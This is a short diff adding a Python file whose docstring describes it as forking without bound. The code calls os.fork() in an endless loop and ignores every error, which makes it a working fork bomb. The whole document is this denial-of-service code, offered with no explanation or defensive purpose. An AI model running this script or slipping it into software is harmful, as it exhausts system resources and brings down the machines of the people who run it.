@@ -1,0 +1,9 @@
+"""Forks without bound, every copy forking again, failures ignored."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
